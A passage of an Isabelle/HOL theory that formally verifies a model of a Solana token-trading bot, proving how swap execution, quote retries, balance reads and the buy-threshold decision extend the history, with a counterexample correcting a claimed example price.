           \<longrightarrow> fst (executeSwapOnce w payer inMint outMint amount slippage fee h)
                 = h2 @ [Rpc (SendRawTransaction (SwapTransaction (swapTransaction p))),
                         Rpc GetLatestBlockhash,
                         Rpc (ConfirmTransaction sig (lb_blockhash lb) (lb_lastValidBlockHeight lb))]
               \<and> confirmations new = [(sig, lb_blockhash lb, lb_lastValidBlockHeight lb)])"
proof -
  let ?E = "executeSwapOnce w payer inMint outMint amount slippage fee h"
  let ?send = "Rpc (SendRawTransaction (SwapTransaction (swapTransaction p)))"
  obtain new where new: "fst ?E = h @ new"
      "length (submitted new) \<le> 1" "length (confirmations new) \<le> 1"
      "(\<exists>v. snd ?E = Inr v) \<longrightarrow> length (submitted new) = 1 \<and> length (confirmations new) = 1"
    using executeSwapOnce_new [of w payer inMint outMint amount slippage fee h] by blast
  have c1: "?E = (h1, Inl e1) \<and> submitted new = [] \<and> confirmations new = []"
    if a: "getQuote w inMint outMint amount slippage 3 h = (h1, Inl e1)"
  proof -
    obtain n1 where n1: "h1 = h @ n1" "retry_only n1" using getQuote_ext [OF a] by blast
    have e: "?E = (h1, Inl e1)" by (rule executeSwapOnce_quote_fails [OF a])
    then have "new = n1" using new(1) n1(1) by simp
    then show ?thesis using e n1(2) by (simp add: retry_only_submitted retry_only_confirmations)
  qed
  have c2: "?E = (h2, Inl e2) \<and> submitted new = [] \<and> confirmations new = []"
    if a: "getQuote w inMint outMint amount slippage 3 h = (h1, Inr q)"
       and b: "getSwapTransaction w q payer (Some fee) 3 h1 = (h2, Inl e2)"
  proof -
    obtain n1 where n1: "h1 = h @ n1" "retry_only n1" using getQuote_ext [OF a] by blast
    obtain n2 where n2: "h2 = h1 @ n2" "retry_only n2" using getSwapTransaction_ext [OF b] by blast
    have e: "?E = (h2, Inl e2)" by (rule executeSwapOnce_build_fails [OF a b])
    then have "new = n1 @ n2" using new(1) n1(1) n2(1) by simp
    then show ?thesis using e n1(2) n2(2)
      by (simp add: retry_only_submitted retry_only_confirmations submitted_append confirmations_append)
  qed
  have c3: "?E = (h2, Inl e3) \<and> submitted new = [] \<and> confirmations new = []"
    if a: "getQuote w inMint outMint amount slippage 3 h = (h1, Inr q)"
       and b: "getSwapTransaction w q payer (Some fee) 3 h1 = (h2, Inr p)"
       and c: "deserializeAndSign w (swapTransaction p) = Some e3"
  proof -
    obtain n1 where n1: "h1 = h @ n1" "retry_only n1" using getQuote_ext [OF a] by blast
    obtain n2 where n2: "h2 = h1 @ n2" "retry_only n2" using getSwapTransaction_ext [OF b] by blast
    have e: "?E = (h2, Inl e3)" by (rule executeSwapOnce_sign_fails [OF a b c])
    then have "new = n1 @ n2" using new(1) n1(1) n2(1) by simp
    then show ?thesis using e n1(2) n2(2)
      by (simp add: retry_only_submitted retry_only_confirmations submitted_append confirmations_append)
  qed
  have c4: "submitted new = [SwapTransaction (swapTransaction p)]"
    if a: "getQuote w inMint outMint amount slippage 3 h = (h1, Inr q)"
       and b: "getSwapTransaction w q payer (Some fee) 3 h1 = (h2, Inr p)"
       and c: "deserializeAndSign w (swapTransaction p) = None"
  proof -
    obtain n1 where n1: "h1 = h @ n1" "retry_only n1" using getQuote_ext [OF a] by blast
    obtain n2 where n2: "h2 = h1 @ n2" "retry_only n2" using getSwapTransaction_ext [OF b] by blast
    obtain rest where rest: "fst ?E = h2 @ ?send # rest" "submitted rest = []"
      using executeSwapOnce_signed [OF a b c] by blast
    have "new = n1 @ n2 @ ?send # rest" using new(1) rest(1) n1(1) n2(1) by simp
    then show ?thesis using rest(2) n1(2) n2(2)
      by (simp add: retry_only_submitted submitted_append)
  qed
  have c5: "fst ?E = h2 @ [?send, Rpc GetLatestBlockhash,
                           Rpc (ConfirmTransaction sig (lb_blockhash lb) (lb_lastValidBlockHeight lb))]
            \<and> confirmations new = [(sig, lb_blockhash lb, lb_lastValidBlockHeight lb)]"
    if a: "getQuote w inMint outMint amount slippage 3 h = (h1, Inr q)"
       and b: "getSwapTransaction w q payer (Some fee) 3 h1 = (h2, Inr p)"
       and c: "deserializeAndSign w (swapTransaction p) = None"
       and d: "sendRpc w (h2 @ [?send]) = Inr sig"
       and e: "latestBlockhashRpc w (h2 @ [?send, Rpc GetLatestBlockhash]) = Inr lb"
  proof -
    obtain n1 where n1: "h1 = h @ n1" "retry_only n1" using getQuote_ext [OF a] by blast
    obtain n2 where n2: "h2 = h1 @ n2" "retry_only n2" using getSwapTransaction_ext [OF b] by blast
    have f: "fst ?E = h2 @ [?send, Rpc GetLatestBlockhash,
                           Rpc (ConfirmTransaction sig (lb_blockhash lb) (lb_lastValidBlockHeight lb))]"
      by (rule executeSwapOnce_confirming [OF a b c d e])
    have "new = n1 @ n2 @ [?send, Rpc GetLatestBlockhash,
                           Rpc (ConfirmTransaction sig (lb_blockhash lb) (lb_lastValidBlockHeight lb))]"
      using new(1) f n1(1) n2(1) by simp
    then show ?thesis using f n1(2) n2(2)
      by (simp add: retry_only_confirmations confirmations_append)
  qed
  show ?thesis
    using new c1 c2 c3 c4 c5 by (intro exI [of _ new]) blast
qed

theorem executeSwapOnce_one_submission_fresh_blockhash_witness:
  "getQuote flat_market WSOL_MINT usdc ''100000000'' (Some 50) 3 []
     = ([Console (FetchingQuote 0), Fetch (quote_request WSOL_MINT usdc ''100000000'' (Some 50))],
        Inr buy_quote)
   \<and> getSwapTransaction flat_market buy_quote ''WaLLet'' (Some 1000000) 3
        [Console (FetchingQuote 0), Fetch (quote_request WSOL_MINT usdc ''100000000'' (Some 50))]
     = ([Console (FetchingQuote 0), Fetch (quote_request WSOL_MINT usdc ''100000000'' (Some 50)),
         Console (RequestingSwap 0),
         Fetch (PostSwap JUPITER_SWAP_API (swap_request_of buy_quote ''WaLLet'' (Some 1000000)))],
        Inr plan)
   \<and> deserializeAndSign flat_market (swapTransaction plan) = None
   \<and> fst (executeSwapOnce flat_market ''WaLLet'' WSOL_MINT usdc ''100000000'' (Some 50) 1000000 [])
     = [Console (FetchingQuote 0), Fetch (quote_request WSOL_MINT usdc ''100000000'' (Some 50)),
        Console (RequestingSwap 0),
        Fetch (PostSwap JUPITER_SWAP_API (swap_request_of buy_quote ''WaLLet'' (Some 1000000))),
        Rpc (SendRawTransaction (SwapTransaction (swapTransaction plan))),
        Rpc GetLatestBlockhash,
        Rpc (ConfirmTransaction ''5sig'' ''9xQeWvG8'' 1150)]
   \<and> submitted (fst (executeSwapOnce flat_market ''WaLLet'' WSOL_MINT usdc ''100000000'' (Some 50)
                       1000000 []))
     = [SwapTransaction (swapTransaction plan)]
   \<and> confirmations (fst (executeSwapOnce flat_market ''WaLLet'' WSOL_MINT usdc ''100000000'' (Some 50)
                           1000000 []))
     = [(''5sig'', ''9xQeWvG8'', 1150)]
   \<and> executeSwapOnce quote_down ''WaLLet'' WSOL_MINT usdc ''100000000'' (Some 50) 1000000 []
     = ([Console (FetchingQuote 0), Fetch (quote_request WSOL_MINT usdc ''100000000'' (Some 50))],
        Inl (Error ''fetch failed''))
   \<and> submitted (fst (executeSwapOnce quote_down ''WaLLet'' WSOL_MINT usdc ''100000000'' (Some 50)
                       1000000 [])) = []
   \<and> executeSwapOnce build_down ''WaLLet'' WSOL_MINT usdc ''100000000'' (Some 50) 1000000 []
     = ([Console (FetchingQuote 0), Fetch (quote_request WSOL_MINT usdc ''100000000'' (Some 50)),
         Console (RequestingSwap 0),
         Fetch (PostSwap JUPITER_SWAP_API (swap_request_of buy_quote ''WaLLet'' (Some 1000000)))],
        Inl (Error ''fetch failed''))
   \<and> submitted (fst (executeSwapOnce build_down ''WaLLet'' WSOL_MINT usdc ''100000000'' (Some 50)
                       1000000 [])) = []
   \<and> executeSwapOnce bad_payload ''WaLLet'' WSOL_MINT usdc ''100000000'' (Some 50) 1000000 []
     = ([Console (FetchingQuote 0), Fetch (quote_request WSOL_MINT usdc ''100000000'' (Some 50)),
         Console (RequestingSwap 0),
         Fetch (PostSwap JUPITER_SWAP_API (swap_request_of buy_quote ''WaLLet'' (Some 1000000)))],
        Inl (Error ''Reached end of buffer unexpectedly''))
   \<and> submitted (fst (executeSwapOnce bad_payload ''WaLLet'' WSOL_MINT usdc ''100000000'' (Some 50)
                       1000000 [])) = []"
proof -
  let ?h1 = "[Console (FetchingQuote 0), Fetch (quote_request WSOL_MINT usdc ''100000000'' (Some 50))]"
  let ?h2 = "?h1 @ [Console (RequestingSwap 0),
         Fetch (PostSwap JUPITER_SWAP_API (swap_request_of buy_quote ''WaLLet'' (Some 1000000)))]"
  let ?lb = "\<lparr> lb_blockhash = ''9xQeWvG8'', lb_lastValidBlockHeight = 1150 \<rparr>"
  have a: "getQuote flat_market WSOL_MINT usdc ''100000000'' (Some 50) 3 [] = (?h1, Inr buy_quote)"
    by (simp add: getQuote_first_ok)
  have b: "getSwapTransaction flat_market buy_quote ''WaLLet'' (Some 1000000) 3 ?h1 = (?h2, Inr plan)"
    by (simp add: getSwapTransaction_first_ok)
  have c: "deserializeAndSign flat_market (swapTransaction plan) = None" by simp
  have d: "sendRpc flat_market (?h2 @ [Rpc (SendRawTransaction (SwapTransaction (swapTransaction plan)))])
             = Inr ''5sig''" by simp
  have e: "latestBlockhashRpc flat_market
             (?h2 @ [Rpc (SendRawTransaction (SwapTransaction (swapTransaction plan))),
                     Rpc GetLatestBlockhash]) = Inr ?lb" by simp
  have ok: "fst (executeSwapOnce flat_market ''WaLLet'' WSOL_MINT usdc ''100000000'' (Some 50) 1000000 [])
          = ?h2 @ [Rpc (SendRawTransaction (SwapTransaction (swapTransaction plan))),
                   Rpc GetLatestBlockhash,
                   Rpc (ConfirmTransaction ''5sig'' ''9xQeWvG8'' 1150)]
       \<and> submitted (fst (executeSwapOnce flat_market ''WaLLet'' WSOL_MINT usdc ''100000000'' (Some 50)
                       1000000 []))
          = [SwapTransaction (swapTransaction plan)]
       \<and> confirmations (fst (executeSwapOnce flat_market ''WaLLet'' WSOL_MINT usdc ''100000000''
                               (Some 50) 1000000 []))
          = [(''5sig'', ''9xQeWvG8'', 1150)]"
    using executeSwapOnce_one_submission_fresh_blockhash
            [where w = flat_market and payer = "''WaLLet''" and inMint = WSOL_MINT and outMint = usdc
               and amount = "''100000000''" and slippage = "Some 50" and fee = 1000000 and h = "[]"
               and ?h1.0 = ?h1 and q = buy_quote and ?h2.0 = ?h2 and p = plan and sig = "''5sig''"
               and lb = ?lb]
          a b c d e
    by auto
  have qa: "getQuote quote_down WSOL_MINT usdc ''100000000'' (Some 50) 3 []
              = (?h1, Inl (Error ''fetch failed''))"
    by (simp add: getQuote_transport_failure)
  have q: "executeSwapOnce quote_down ''WaLLet'' WSOL_MINT usdc ''100000000'' (Some 50) 1000000 []
             = (?h1, Inl (Error ''fetch failed''))
       \<and> submitted (fst (executeSwapOnce quote_down ''WaLLet'' WSOL_MINT usdc ''100000000'' (Some 50)
                       1000000 [])) = []"
    using executeSwapOnce_one_submission_fresh_blockhash
            [where w = quote_down and payer = "''WaLLet''" and inMint = WSOL_MINT and outMint = usdc
               and amount = "''100000000''" and slippage = "Some 50" and fee = 1000000 and h = "[]"
               and ?h1.0 = ?h1 and ?e1.0 = "Error ''fetch failed''"]
          qa
    by auto
  have ba: "getQuote build_down WSOL_MINT usdc ''100000000'' (Some 50) 3 [] = (?h1, Inr buy_quote)"
    by (simp add: getQuote_first_ok)
  have bb: "getSwapTransaction build_down buy_quote ''WaLLet'' (Some 1000000) 3 ?h1
              = (?h2, Inl (Error ''fetch failed''))"
    by (simp add: getSwapTransaction_transport_failure)
  have bd: "executeSwapOnce build_down ''WaLLet'' WSOL_MINT usdc ''100000000'' (Some 50) 1000000 []
             = (?h2, Inl (Error ''fetch failed''))
       \<and> submitted (fst (executeSwapOnce build_down ''WaLLet'' WSOL_MINT usdc ''100000000'' (Some 50)
                       1000000 [])) = []"
    using executeSwapOnce_one_submission_fresh_blockhash
            [where w = build_down and payer = "''WaLLet''" and inMint = WSOL_MINT and outMint = usdc
               and amount = "''100000000''" and slippage = "Some 50" and fee = 1000000 and h = "[]"
               and ?h1.0 = ?h1 and q = buy_quote and ?h2.0 = ?h2 and ?e2.0 = "Error ''fetch failed''"]
          ba bb
    by auto
  have pa: "getQuote bad_payload WSOL_MINT usdc ''100000000'' (Some 50) 3 [] = (?h1, Inr buy_quote)"
    by (simp add: getQuote_first_ok)
  have pb: "getSwapTransaction bad_payload buy_quote ''WaLLet'' (Some 1000000) 3 ?h1 = (?h2, Inr plan)"
    by (simp add: getSwapTransaction_first_ok)
  have pc: "deserializeAndSign bad_payload (swapTransaction plan)
              = Some (Error ''Reached end of buffer unexpectedly'')" by simp
  have bp: "executeSwapOnce bad_payload ''WaLLet'' WSOL_MINT usdc ''100000000'' (Some 50) 1000000 []
             = (?h2, Inl (Error ''Reached end of buffer unexpectedly''))
       \<and> submitted (fst (executeSwapOnce bad_payload ''WaLLet'' WSOL_MINT usdc ''100000000'' (Some 50)
                       1000000 [])) = []"
    using executeSwapOnce_one_submission_fresh_blockhash
            [where w = bad_payload and payer = "''WaLLet''" and inMint = WSOL_MINT and outMint = usdc
               and amount = "''100000000''" and slippage = "Some 50" and fee = 1000000 and h = "[]"
               and ?h1.0 = ?h1 and q = buy_quote and ?h2.0 = ?h2 and p = plan
               and ?e3.0 = "Error ''Reached end of buffer unexpectedly''"]
          pa pb pc
    by auto
  show ?thesis
    using a b c ok q bd bp by simp
qed

subsection \<open>What the operations of a tick add to the history\<close>

lemma swaps_append: "swaps (xs @ ys) = swaps xs @ swaps ys"
  by (simp add: swaps_def submitted_append)

lemma swaps_simps [simp]:
  "swaps [] = []"
  "swaps (Sleep d # tr) = swaps tr"
  "swaps (Fetch r # tr) = swaps tr"
  "swaps (Rpc c # tr) = filter is_swap (sent_of c) @ swaps tr"
  "swaps (Console l # tr) = swaps tr"
  by (simp_all add: swaps_def)

lemma retry_only_swaps: "retry_only new \<Longrightarrow> swaps new = []"
  by (simp add: swaps_def retry_only_submitted)

text \<open>
  What each operation adds to the history, in the form the case analysis of a tick
  consumes: the history only grows, and the part added carries the triggers and swap
  submissions stated.
\<close>

lemma getQuote_obs:
  assumes "getQuote w inMint outMint amount slippage m h = (h1, r)"
  shows "\<exists>new. h1 = h @ new \<and> triggers new = [] \<and> swaps new = []"
proof -
  obtain new where "h1 = h @ new" "retry_only new"
    using getQuote_new [of w inMint outMint amount slippage m h] assms by auto
  then show ?thesis
    using retry_only_triggers retry_only_swaps by blast
qed

lemma executeSwapOnce_obs:
  assumes "executeSwapOnce w payer inMint outMint amount slippage fee h = (h1, r)"
  shows "\<exists>new. h1 = h @ new \<and> triggers new = [] \<and> length (swaps new) \<le> 1"
proof -
  obtain new where new: "h1 = h @ new" "list_all is_retry_log (logs new)" "length (submitted new) \<le> 1"
    using executeSwapOnce_new [of w payer inMint outMint amount slippage fee h] assms by auto
  have "\<forall>l \<in> set (logs new). l \<noteq> TriggerBuy \<and> l \<noteq> TriggerSell"
    using new(2) by (auto simp: list_all_iff)
  then have t: "triggers new = []" by (simp add: triggers_def filter_empty_conv)
  have "length (swaps new) \<le> length (submitted new)" by (simp add: swaps_def)
  then have "length (swaps new) \<le> 1" using new(3) by simp
  then show ?thesis using new(1) t by blast
qed

lemma send_close_obs:
  assumes "send_close w owner acct prog shouldClose h = (h1, r)"
  shows "\<exists>new. h1 = h @ new \<and> triggers new = [] \<and> swaps new = []"
  using assms
  by (auto simp: send_close_def Let_def split: sum.splits prod.splits if_splits)

lemma cleanup_try_obs:
  assumes "cleanup_try w c h = (h1, r)"
  shows "\<exists>new. h1 = h @ new \<and> triggers new = [] \<and> swaps new = []"
  using assms
  by (auto simp: cleanup_try_def Let_def triggers_append swaps_append
           split: sum.splits prod.splits if_splits option.splits
           dest!: send_close_obs)

lemma cleanup_obs: "\<exists>new. cleanup w c h = h @ new \<and> triggers new = [] \<and> swaps new = []"
proof -
  obtain h1 r where t: "cleanup_try w c (h @ [Console AttemptingClose]) = (h1, r)"
    by (cases "cleanup_try w c (h @ [Console AttemptingClose])")
  obtain new where new: "h1 = (h @ [Console AttemptingClose]) @ new" "triggers new = []" "swaps new = []"
    using cleanup_try_obs [OF t] by blast
  show ?thesis
  proof (cases r)
    case (Inl e)
    then have "cleanup w c h = h @ (Console AttemptingClose # new @ [Console (CloseAttemptFailed (message e))])"
      using t new(1) by (simp add: cleanup_def)
    then show ?thesis using new(2,3)
      by (intro exI [of _ "Console AttemptingClose # new @ [Console (CloseAttemptFailed (message e))]"])
         (simp add: triggers_append swaps_append)
  next
    case (Inr u)
    then have "cleanup w c h = h @ (Console AttemptingClose # new)"
      using t new(1) by (simp add: cleanup_def)
    then show ?thesis using new(2,3)
      by (intro exI [of _ "Console AttemptingClose # new"]) simp
  qed
qed

lemma buy_path_obs:
  assumes "buy_path w c h = (h1, r)"
  shows "\<exists>new. h1 = h @ new \<and>
         ((triggers new = [] \<and> swaps new = [])
          \<or> (triggers new = [TriggerBuy] \<and> length (swaps new) \<le> 1))"
  using assms
  by (auto simp: buy_path_def Let_def triggers_append swaps_append
           split: sum.splits prod.splits if_splits
           dest!: getQuote_obs executeSwapOnce_obs)

lemma sell_path_obs:
  assumes "sell_path w c b h = (h1, r)"
  shows "\<exists>new. h1 = h @ new \<and>
         ((triggers new = [] \<and> swaps new = [])
          \<or> (triggers new = [TriggerSell] \<and> length (swaps new) \<le> 1))"
proof -
  obtain added where added:
    "\<And>x. cleanup w c x = x @ added x" "\<And>x. triggers (added x) = []" "\<And>x. swaps (added x) = []"
    using cleanup_obs [of w c] by metis
  show ?thesis
    using assms
    by (auto simp: sell_path_def Let_def triggers_append swaps_append added
             split: sum.splits prod.splits if_splits
             dest!: getQuote_obs executeSwapOnce_obs)
qed

subsection \<open>Example values\<close>

lemma BigInt_examples:
  "BigInt ''500000000'' = Inr 500000000"
  "BigInt ''850000000'' = Inr 850000000"
  "BigInt ''100000000'' = Inr 100000000"
  "BigInt ''66726000'' = Inr 66726000"
  "BigInt ''0'' = Inr 0"
  by (simp_all add: BigInt_def trim_def isWhiteSpace_def parse_literal_def digit_value_def Let_def)

lemma toString_examples:
  "toString_int 500000000 = ''500000000''"
  "toString_int 100000000 = ''100000000''"
  by (simp_all add: toString_int_def toString_nat.simps digit_char_def)

lemma holding_market_simps [simp]:
  "quoteApi holding_market = (\<lambda>h. Resolves (ok_response sell_quote))"
  "swapApi holding_market = (\<lambda>h. Resolves (ok_response plan))"
  "tokenAccountsRpc holding_market
     = (\<lambda>h. if length (rpcs h) = 1 then Inr [Some ''500000000''] else Inr [])"
  "getAccountRpc holding_market = (\<lambda>h. Inr 0)"
  "latestBlockhashRpc holding_market
     = (\<lambda>h. Inr \<lparr> lb_blockhash = ''9xQeWvG8'', lb_lastValidBlockHeight = 1150 \<rparr>)"
  "sendRpc holding_market = (\<lambda>h. Inr ''5sig'')"
  "confirmRpc holding_market = (\<lambda>h. Inr None)"
  "deserializeAndSign holding_market = (\<lambda>s. None)"
  "elapsedMs holding_market = (\<lambda>h. 0)"
  "associatedTokenAddress holding_market
     = (\<lambda>mint owner program. ''ata:'' @ program @ '':'' @ mint @ '':'' @ owner)"
  by (simp_all add: holding_market_def flat_market_def offline_def)

lemma balance_flat_market:
  "getTokenBalanceByMint flat_market owner mint []
     = ([Rpc (GetParsedTokenAccountsByOwner owner mint TOKEN_PROGRAM_ID),
         Rpc (GetParsedTokenAccountsByOwner owner mint TOKEN_2022_PROGRAM_ID)], Inr 0)"
  by (simp add: getTokenBalanceByMint_def addFromProgram_def Let_def)

lemma balance_holding_market:
  "getTokenBalanceByMint holding_market owner mint []
     = ([Rpc (GetParsedTokenAccountsByOwner owner mint TOKEN_PROGRAM_ID),
         Rpc (GetParsedTokenAccountsByOwner owner mint TOKEN_2022_PROGRAM_ID)], Inr 500000000)"
  by (simp add: getTokenBalanceByMint_def addFromProgram_def Let_def BigInt_examples)

subsection \<open>C6: the buy decision\<close>

lemma bigint_div_nonneg: "0 \<le> a \<Longrightarrow> 0 < b \<Longrightarrow> bigint_div a b = Inr (a div b)"
  by (cases "a = 0") (simp_all add: bigint_div_def)

lemma pow10_valid: "0 \<le> d \<Longrightarrow> d \<le> 18 \<Longrightarrow> pow10 d = Inr (10 ^ nat d)"
  by (simp add: pow10_def)

lemma buy_price:
  assumes "0 \<le> quoteIn" "0 < quoteOut" "0 \<le> d" "d \<le> 18"
  shows "lamportsPerTokenFromQuote quoteIn quoteOut d = Inr ((quoteIn * 10 ^ nat d) div quoteOut)"
  using assms by (simp add: lamportsPerTokenFromQuote_def pow10_valid bigint_div_nonneg)

lemma sell_price:
  assumes "0 < quoteIn" "0 \<le> quoteOut" "0 \<le> d" "d \<le> 18"
  shows "lamportsPerTokenFromSellQuote quoteIn quoteOut d = Inr ((quoteOut * 10 ^ nat d) div quoteIn)"
  using assms by (simp add: lamportsPerTokenFromSellQuote_def pow10_valid bigint_div_nonneg)

text \<open>The buy path once the balance suffices and the quote has been read and priced.\<close>

lemma buy_path_priced:
  assumes "balanceRpc w (h @ [Rpc (GetBalance (cfg_wallet c))]) = Inr solBalance"
      and "cfg_inAmountLamports c \<le> solBalance"
      and "getQuote w WSOL_MINT (cfg_quoteMint c) (toString_int (cfg_inAmountLamports c))
             (cfg_slippageBps c) 3 (h @ [Rpc (GetBalance (cfg_wallet c))]) = (h2, Inr q)"
      and "BigInt (inAmount q) = Inr quoteIn" "BigInt (outAmount q) = Inr quoteOut"
      and "lamportsPerTokenFromQuote quoteIn quoteOut (cfg_tokenDecimals c) = Inr price"
      and "0 \<le> cfg_tokenDecimals c" "cfg_tokenDecimals c \<le> 18"
  shows "buy_path w c h =
           (if price \<le> cfg_buyBelowLamportsPerToken c then
              (case executeSwapOnce w (cfg_wallet c) WSOL_MINT (cfg_quoteMint c)
                      (toString_int (cfg_inAmountLamports c)) (cfg_slippageBps c)
                      (cfg_priorityFeeLamports c) (h2 @ [Console (BuyCheck price), Console TriggerBuy]) of
                 (h4, Inl e) \<Rightarrow> (h4, Inl e)
               | (h4, Inr (signature, q')) \<Rightarrow> (h4 @ [Console (BuyDone signature)], Inr ()))
            else (h2 @ [Console (BuyCheck price)], Inr ()))"
  using assms by (simp add: buy_path_def Let_def pow10_valid)

lemma tick_try_flat:
  assumes "getTokenBalanceByMint w (cfg_wallet c) (cfg_quoteMint c) h = (h0, Inr tokenBalanceUnits)"
      and "\<not> tokenBalanceUnits > 0"
  shows "tick_try w c h = buy_path w c h0"
  using assms by (simp add: tick_try_def)

lemma tick_try_holding:
  assumes "getTokenBalanceByMint w (cfg_wallet c) (cfg_quoteMint c) h = (h0, Inr tokenBalanceUnits)"
      and "tokenBalanceUnits > 0"
  shows "tick_try w c h = sell_path w c tokenBalanceUnits h0"
  using assms by (simp add: tick_try_def)

lemma buy_example_price: "lamportsPerTokenFromQuote 100000000 66726000 6 = Inr 1498666"
  by (simp add: buy_price)

lemma example_config_simps [simp]:
  "cfg_quoteMint example_config = usdc"
  "cfg_wallet example_config = ''WaLLet1111111111111111111111111111111111111''"
  "cfg_tokenDecimals example_config = 6"
  "cfg_inAmountLamports example_config = 100000000"
  "cfg_slippageBps example_config = Some 50"
  "cfg_intervalMs example_config = 5000"
  "cfg_priorityFeeLamports example_config = 1000000"
  "cfg_buyBelowLamportsPerToken example_config = 1499000000"
  "cfg_sellAboveLamportsPerToken example_config = 1700000"
  by (simp_all add: example_config_def)

lemma getTokenBalanceByMint_reads:
  assumes "getTokenBalanceByMint w owner mint h = (h1, r)"
  shows "requests h1 = requests h \<and> submitted h1 = submitted h"
  using assms
  by (auto simp: getTokenBalanceByMint_def addFromProgram_def Let_def requests_append submitted_append
           split: sum.splits prod.splits)

lemma getQuote_submits_nothing:
  assumes "getQuote w inMint outMint amount slippage m h = (h1, r)"
  shows "submitted h1 = submitted h"
proof -
  obtain n where "h1 = h @ n" "retry_only n" using getQuote_ext [OF assms] by blast
  then show ?thesis by (simp add: submitted_append retry_only_submitted)
qed

lemma bigint_div_pos:
  "0 < b \<Longrightarrow> bigint_div a b = Inr (if 0 \<le> a then a div b else - ((- a) div b))"
  by (cases "a = 0") (auto simp: bigint_div_def sgn_if)

lemma zero_le_mult_pos_iff: "(0 :: int) < k \<Longrightarrow> (0 \<le> a * k) = (0 \<le> a)"
  by (simp add: zero_le_mult_iff)

lemma buy_price_general:
  assumes "0 \<le> d" "d \<le> 18"
  shows "lamportsPerTokenFromQuote quoteIn quoteOut d
           = Inr (if quoteOut \<le> 0 then 0
                  else if 0 \<le> quoteIn then (quoteIn * 10 ^ nat d) div quoteOut
                  else - ((- quoteIn * 10 ^ nat d) div quoteOut))"
proof (cases "quoteOut \<le> 0")
  case True
  then show ?thesis by (simp add: lamportsPerTokenFromQuote_def)
next
  case False
  have s: "(0 \<le> quoteIn * 10 ^ nat d) = (0 \<le> quoteIn)"
    by (rule zero_le_mult_pos_iff) simp
  show ?thesis using False assms
    by (simp add: lamportsPerTokenFromQuote_def pow10_valid bigint_div_pos s)
qed

lemma stopping_market_simps [simp]:
  "tokenAccountsRpc quote_down = (\<lambda>h. Inr [])"
  "balanceRpc quote_down = (\<lambda>h. Inr 5000000000)"
  "quoteApi garbled_market = (\<lambda>h. Resolves (ok_response garbled_quote))"
  "tokenAccountsRpc garbled_market = (\<lambda>h. Inr [])"
  "balanceRpc garbled_market = (\<lambda>h. Inr 5000000000)"
  by (simp_all add: quote_down_def garbled_market_def flat_market_def offline_def)

lemma wide_config_simps [simp]:
  "cfg_quoteMint wide_config = usdc"
  "cfg_wallet wide_config = ''WaLLet1111111111111111111111111111111111111''"
  "cfg_tokenDecimals wide_config = 19"
  "cfg_inAmountLamports wide_config = 100000000"
  "cfg_slippageBps wide_config = Some 50"
  "cfg_priorityFeeLamports wide_config = 1000000"
  "cfg_buyBelowLamportsPerToken wide_config = 100000000000000000000"
  by (simp_all add: wide_config_def example_config_def)

lemma garbled_amount:
  "BigInt ''66.726'' = Inl (Error ''Cannot convert 66.726 to a BigInt'')"
  by (simp add: BigInt_def trim_def isWhiteSpace_def parse_literal_def digit_value_def Let_def)

lemma toString_19: "toString_int 19 = ''19''"
  by (simp add: toString_int_def toString_nat.simps digit_char_def)

lemma tick_try_wide:
  "tick_try flat_market wide_config []
     = ([Rpc (GetParsedTokenAccountsByOwner ''WaLLet1111111111111111111111111111111111111'' usdc
               TOKEN_PROGRAM_ID),
         Rpc (GetParsedTokenAccountsByOwner ''WaLLet1111111111111111111111111111111111111'' usdc
               TOKEN_2022_PROGRAM_ID),
         Rpc (GetBalance ''WaLLet1111111111111111111111111111111111111''),
         Console (FetchingQuote 0),
         Fetch (quote_request WSOL_MINT usdc ''100000000'' (Some 50))],
        Inl (Error ''Invalid decimals: 19''))"
  by (simp add: tick_try_def buy_path_def balance_flat_market toString_examples getQuote_first_ok
        buy_quote_def BigInt_examples lamportsPerTokenFromQuote_def pow10_def toString_19 Let_def)

text \<open>
  The example of the claim gives the implied price as about 1498.99; the code computes
  1498666 for it. And the price alone does not decide the buy: with 19 decimals
  configured, a tick without position whose balance suffices and whose quote prices at or
  below the threshold ends with \<open>Invalid decimals: 19\<close> after the quote request, and
  nothing is submitted.
\<close>

theorem buy_example_price_counterexample:
  "lamportsPerTokenFromQuote 100000000 66726000 6 = Inr 1498666
   \<and> lamportsPerTokenFromQuote 100000000 66726000 6 \<noteq> Inr 1498
   \<and> lamportsPerTokenFromQuote 100000000 66726000 6 \<noteq> Inr 1499
   \<and> snd (getTokenBalanceByMint flat_market (cfg_wallet wide_config) (cfg_quoteMint wide_config) [])
       = Inr 0
   \<and> balanceRpc flat_market
        (fst (getTokenBalanceByMint flat_market (cfg_wallet wide_config) (cfg_quoteMint wide_config) [])
         @ [Rpc (GetBalance (cfg_wallet wide_config))]) = Inr 5000000000
   \<and> cfg_inAmountLamports wide_config \<le> 5000000000
   \<and> BigInt (inAmount buy_quote) = Inr 100000000
   \<and> BigInt (outAmount buy_quote) = Inr 66726000
   \<and> (100000000 * 10 ^ nat (cfg_tokenDecimals wide_config)) div 66726000
       \<le> cfg_buyBelowLamportsPerToken wide_config
   \<and> snd (tick_try flat_market wide_config []) = Inl (Error ''Invalid decimals: 19'')
   \<and> requests (fst (tick_try flat_market wide_config []))
       = [quote_request WSOL_MINT usdc ''100000000'' (Some 50)]
   \<and> submitted (fst (tick_try flat_market wide_config [])) = []"
  by (simp add: buy_example_price balance_flat_market tick_try_wide buy_quote_def BigInt_examples)

text \<open>
  C6, as amended. On a tick without position (the token balance read is not positive)
  whose SOL balance has been read: when the SOL balance is below the trade size the tick
  ends with the skip line, no request has been made and nothing has been submitted.
  Otherwise a quote for the trade size, WSOL to the quote mint, is requested, and nothing
  is submitted up to the decision. When the quote fails, when \<open>BigInt\<close> rejects \<open>inAmount\<close>
  or \<open>outAmount\<close> of the quote, and when the configured decimals are outside
  \<open>0..18\<close>, the tick ends with that error (\<open>Invalid decimals: d\<close> for the decimals) and no
  swap is executed. When \<open>BigInt\<close> accepts both amounts and the decimals are in \<open>0..18\<close>, the
  implied price is \<open>(inAmount * 10 ^ decimals) div outAmount\<close> for \<open>inAmount \<ge> 0\<close> and
  \<open>outAmount > 0\<close>, it is \<open>0\<close> for \<open>outAmount \<le> 0\<close>, and it is
  \<open>- ((- inAmount * 10 ^ decimals) div outAmount)\<close> for \<open>inAmount < 0 < outAmount\<close>;
  \<open>executeSwapOnce\<close> (WSOL to the quote mint, for the trade size) is run exactly when that
  price is at most the buy threshold, and otherwise the tick ends after the price line.
  For \<open>inAmount = 100000000\<close>, \<open>outAmount = 66726000\<close> and 6 decimals the implied price is
  1498666 lamports per whole token, which is at most the threshold 1499000000.
\<close>

theorem buy_when_price_at_or_below:
